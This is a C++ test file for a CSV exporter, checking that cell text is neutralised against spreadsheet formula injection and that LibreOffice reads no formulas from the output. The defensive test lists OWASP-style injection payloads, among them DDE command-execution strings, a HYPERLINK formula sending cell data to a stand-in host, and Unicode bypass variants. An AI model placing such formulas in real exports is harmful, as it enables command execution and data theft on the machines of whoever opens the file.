#include "terminal/export/csv_writer.hpp"

#include "tests/support/catch.hpp"
#include "tests/support/temporary_folder.hpp"

#include <cstdlib>
#include <fstream>
#include <sstream>

using namespace makegood;

namespace {

// What OWASP's page on CSV injection names, and ways around those who only look at the first letter.
struct Payload {
    std::string_view text;
    std::string_view cell; // what a reader of CSV gets back
};
const Payload payloads[] = {
    {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
    {"+1+1", "'+1+1"},
    {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
    {"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
    {"=HYPERLINK(\"http://x.test?\"&A1)", "'=HYPERLINK(\"http://x.test?\"&A1)"},
    {"\t=1+1", " '=1+1"},
    {"\r=1+1", " '=1+1"},
    {"\n=1+1", " '=1+1"},
    {"  =1+1", "  '=1+1"},
    {"\u00a0=1+1", "\u00a0'=1+1"},
    {"\u3000\u200b=1+1", "\u3000\u200b'=1+1"},
    {"\ufeff=1+1", "\ufeff'=1+1"},
    {"\u202e=1+1", "'=1+1"},
    {"\x01=1+1", "'=1+1"},
    {"＝1+1", "'＝1+1"},
    {"＋1", "'＋1"},
    {"－1", "'－1"},
    {"＠SUM(A1)", "'＠SUM(A1)"},
    {"﹦1", "'﹦1"},
    {"−1", "'−1"},
    {"milk;=1+1", "milk;'=1+1"},
    {"milk; =1+1", "milk; '=1+1"},
    {"\"=1+1", "\"=1+1"}, // quoted, so the quote is part of the text
    {"milk\n=1+1", "milk =1+1"},
    {"milk\r\n=1+1", "milk  =1+1"},
    {"milk", "milk"},
    {"a-b=c", "a-b=c"},
    {"بستنی می‌خواهم", "بستنی می‌خواهم"},
    {"", ""},
};

std::string row_of(std::string_view text) {
    std::ostringstream out;
    CsvWriter(out).text(text).end_row();
    return out.str();
}

} // namespace

TEST_CASE("no text becomes a formula, and each row is one line", "[export]") {
    for (const auto& [text, cell] : payloads) {
        CAPTURE(text);
        CHECK(without_formulas(text) == cell);
        const auto row = row_of(text);
        CHECK(row.find('\n') == row.size() - 1);
        CHECK(row.find('\r') == row.size() - 2);
    }
}

TEST_CASE("cells stand as RFC 4180 has them", "[export]") {
    std::ostringstream out;
    CsvWriter csv(out);
    csv.text("say \"hello\", twice").number(-12).amount(Money(-1250, *Currency::from_code("EUR"))).text("");
    csv.end_row();
    csv.number(0).end_row();
    CHECK(out.str() == "\xEF\xBB\xBF\"say \"\"hello\"\", twice\",-12,-12.50,\"\"\r\n0\r\n");
}

TEST_CASE("LibreOffice finds no formula among them", "[export]") {
    if (std::system("command -v soffice >/dev/null") != 0) {
        WARN("soffice is not installed: nothing was opened with it");
        return;
    }
    const storage::TemporaryFolder folder;
    const auto file = folder.path() / "payloads.csv";
    {
        std::ofstream stream(file, std::ios::binary);
        CsvWriter csv(stream);
        for (const auto& payload : payloads) {
            csv.text(payload.text).text(payload.text);
            csv.end_row();
        }
    }
    const auto in_folder = "cd '" + folder.path().string() + "' && HOME=. soffice --headless --convert-to ";
    REQUIRE(std::system((in_folder + "fods payloads.csv >/dev/null").c_str()) == 0);
    CHECK(std::system(("grep -q table:formula '" + (folder.path() / "payloads.fods").string() + "'").c_str()) != 0);
}
